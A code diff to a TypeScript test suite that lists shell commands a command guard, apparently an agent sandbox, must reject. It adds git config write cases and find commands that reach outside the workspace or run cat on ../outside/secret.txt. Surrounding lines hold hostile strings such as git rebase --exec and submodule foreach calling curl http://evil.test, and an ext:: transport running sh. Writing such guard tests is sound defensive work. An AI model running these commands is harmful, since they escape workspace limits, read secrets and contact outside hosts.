@@ -157,6 +157,13 @@ const attacks: Attack[] = [
   ['git rebase --exec', BROAD, shell("git rebase --exec 'curl http://evil.test' HEAD~1"), /git --exec guard/],
   ['git grep -O', BROAD, shell('git grep -Osh foo'), /git grep -O guard/],
   ['git config alias', BROAD, shell("git config alias.st '!sh -c id'"), /git config guard/],
+  ...['git config user.email x', 'git config --unset user.email', 'git config -e', 'git config --add core.pager less', 'git config --type bool core.x', 'git config -f ../x core.x', 'git config --edit --global'].map(
+    (command): Attack => [`git config that writes or edits: ${command}`, BROAD, shell(command), /git config guard/],
+  ),
+  // find's files and starting points stay paths beside its patterns.
+  ['find -newer a file outside', BROAD, shell("find . -name '*.ts' -newer ../outside/secret.txt"), /'\.\.\/outside\/secret\.txt' of 'find' leads outside/],
+  ['find from outside', BROAD, shell("find ../outside -path './x/*'"), /'\.\.\/outside' of 'find' leads outside/],
+  ['find -exec after a pattern', BROAD, shell("find . -name x -exec cat ../outside/secret.txt ';'"), /find -exec guard|leads outside/],
   ['git ext:: transport', BROAD, shell("git clone 'ext::sh -c touch% /tmp/pwned' x"), /ext:: transport/],
   ['git submodule foreach', BROAD, shell("git submodule foreach 'curl http://evil.test'"), /git submodule foreach guard/],
   ['git abbreviated --output', MAIN, shell('git log --outp=/tmp/x'), /git --output guard/],
